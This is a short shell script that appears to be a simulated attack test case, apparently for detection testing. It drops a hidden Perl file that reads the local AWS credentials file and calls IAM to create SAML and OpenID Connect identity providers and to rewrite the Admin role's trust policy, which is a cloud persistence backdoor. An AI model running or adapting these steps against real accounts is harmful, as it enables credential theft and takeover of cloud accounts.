#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.i.pl <<'END'
use HTTP::Tiny; my %k; open(my $f, "<", "$ENV{HOME}/.aws/credentials") or die; while (<$f>) { $k{$1} = $2 if /^(\w+) = (\S+)/ }
for my $a ("CreateSAMLProvider&Name=Directory&SAMLMetadataDocument=bait", "CreateOpenIDConnectProvider&Url=https://login.example.net&ClientIDList.member.1=sts", "UpdateAssumeRolePolicy&RoleName=Admin&PolicyDocument=bait", "ListSAMLProviders") {
    my $r = HTTP::Tiny->new->post("http://iam.amazonaws.com/?Action=$a", { headers => { Authorization => "AWS4-HMAC-SHA256 Credential=$k{aws_access_key_id}/20261130/us-east-1/iam/aws4_request" } }); die unless $r->{success};
}
END
perl /tmp/.i.pl
took_place
